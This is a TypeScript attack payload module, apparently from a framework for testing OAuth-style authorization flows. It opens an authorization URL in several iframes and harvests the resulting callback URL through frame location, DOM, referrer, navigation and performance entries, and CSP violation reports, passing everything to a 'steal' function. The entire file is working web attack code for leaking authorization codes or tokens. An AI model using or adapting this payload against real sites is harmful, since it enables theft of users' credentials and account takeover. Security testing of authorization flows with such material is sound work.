import type { Payload } from "./attack.js";

/** The silent flow in a frame, and all ways in which a page may learn the frame's final URL. */
export const inAFrame: Payload = async (it) => {
  // The redirect to the callback violates the attacker's own policy, and the report names the blocked URL.
  addEventListener("securitypolicyviolation", (event) =>
    it.steal(event.blockedURI, event.documentURI, event.sourceFile),
  );
  const look = async (frame: HTMLIFrameElement) => {
    for (let tries = 0; tries < 60; tries++) {
      try {
        const { location, document, performance, navigation } = frame.contentWindow as typeof window & {
          navigation?: { currentEntry: { url: string } };
        };
        it.steal(location.href, document.URL, document.documentElement.outerHTML, document.referrer);
        it.steal(performance.getEntries(), navigation?.currentEntry.url);
      } catch {
        // The frame is cross-origin now.
      }
      await it.pause(10);
    }
  };
  const open = async (attributes: Record<string, string>) => {
    const frame = document.createElement("iframe");
    for (const [name, value] of Object.entries(attributes)) frame.setAttribute(name, value);
    frame.onload = frame.onerror = (event) => it.steal(String(event));
    document.body.append(frame);
    await look(frame);
    frame.remove();
  };
  const src = it.authorizationUrl();
  await Promise.all([
    open({ src }),
    open({ src, referrerpolicy: "unsafe-url", name: "named", allow: "fullscreen *" }),
    open({ src, sandbox: "allow-same-origin allow-scripts allow-top-navigation" }),
    open({ src, csp: "default-src 'self'" }),
  ]);
  it.steal(performance.getEntries());
};
